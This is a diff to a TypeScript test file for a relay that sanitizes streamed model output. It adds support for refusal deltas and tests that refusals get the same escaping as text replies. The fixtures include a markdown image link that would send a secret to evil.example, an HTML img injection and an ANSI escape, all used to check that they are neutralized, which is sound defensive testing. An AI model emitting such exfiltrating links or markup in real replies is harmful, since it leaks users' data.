@@ -10,9 +10,10 @@ const grounding = {
   pages: [ref("https://x/advanced.html#ordering"), ref("https://x/api.html#get")],
 };
 
-async function run(deltas: string[], includeReferences = false) {
+/** Deltas are text; `{ refusal }` is a refusal delta (OpenAI's `refusal` field). */
+async function run(deltas: Array<string | { refusal: string }>, includeReferences = false) {
   async function* stream(): AsyncGenerator<ModelStreamPart> {
-    for (const delta of deltas) yield { type: "text-delta", delta };
+    for (const delta of deltas) yield typeof delta === "string" ? { type: "text-delta", delta } : { type: "refusal-delta", delta: delta.refusal };
     yield { type: "finish", finishReason: "stop" };
   }
   const parts: ChatPart[] = [];
@@ -27,7 +28,8 @@ async function run(deltas: string[], includeReferences = false) {
     parts.push(part);
   const lists = parts.filter((p) => p.type === "references").map((p) => p.references.map((r) => r.url));
   const text = parts.map((p) => (p.type === "text-delta" ? p.delta : "")).join("");
-  return { text, lists, final: lists.at(-1) };
+  const refusal = parts.map((p) => (p.type === "refusal-delta" ? p.delta : "")).join("");
+  return { text, refusal, lists, final: lists.at(-1) };
 }
 
 describe("relay's references", () => {
@@ -72,5 +74,26 @@ describe("relay's line ends", () => {
   it("reads CR and CRLF as line ends, so no link reference definition hides behind them", async () => {
     expect((await run(["See [1].\r\r[1]: http://evil.example/"])).text).toBe("See [1].\n\n[1\\]: http://evil.example/");
     expect((await run(["See [2].\r", "\n\r", "\n[2]: http://evil.example/"])).text).toBe("See [1].\n\n[2\\]: http://evil.example/");
+  });
+});
+
+describe("relay's refusals", () => {
+  it("reads a refusal as a text reply is read: the same escapes and line ends, no citation, no page", async () => {
+    const { text, refusal, final } = await run([
+      { refusal: "Sorry.\r" },
+      { refusal: "\n![x](https://evil.example/p.png?q=secret) <img src=x> [1]\u001b[31m" },
+      { refusal: "\n[1]: https://evil.example/" },
+    ]);
+    expect(text).toBe("");
+    expect(refusal).toBe("Sorry.\n&#33;[x](https://evil.example/p.png?q=secret) &lt;img src=x>[31m\n[1\\]: https://evil.example/");
+    expect(final ?? []).toEqual([]);
+  });
+
+  it("keeps a reply one kind: what follows a refusal is the refusal's, what follows text is the text's", async () => {
+    const declined = await run([{ refusal: "I can't " }, "help [1]."], true);
+    expect(declined).toMatchObject({ text: "", refusal: "I can't help." });
+    expect(declined.final ?? []).toEqual([]);
+    const answered = await run(["Set a timeout [2]. ", { refusal: "Also this." }]);
+    expect(answered).toMatchObject({ text: "Set a timeout [1]. Also this.", refusal: "", final: ["https://x/advanced.html#timeouts"] });
   });
 });
